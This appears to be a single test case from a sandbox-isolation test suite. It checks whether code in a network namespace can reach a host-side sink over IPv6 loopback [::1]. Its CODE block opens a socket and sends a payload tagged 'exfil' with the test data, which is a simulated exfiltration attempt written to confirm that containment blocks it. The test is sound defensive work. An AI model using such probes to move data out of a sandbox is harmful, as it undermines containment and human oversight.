ID = 'net.ipv6-loopback'
CATEGORY = 'network'
DESCRIPTION = "connect to the sink on [::1] (the host's IPv6 loopback)"
CLAIMS = ('rule:network (namespace)',)
CODE = r"""
try:
    with socket.create_connection(("::1", SINK_PORT), timeout=2) as s:
        s.sendall(("exfil " + DATA).encode())
    out("ALLOWED", "connected to [::1]")
except OSError as e:
    out("DENIED", f"[::1]:{SINK_PORT}: {ename(e)}")
"""
CONTROL = 'host'
CONTAINED = "[::1] is not the host's: nothing reaches the sink"
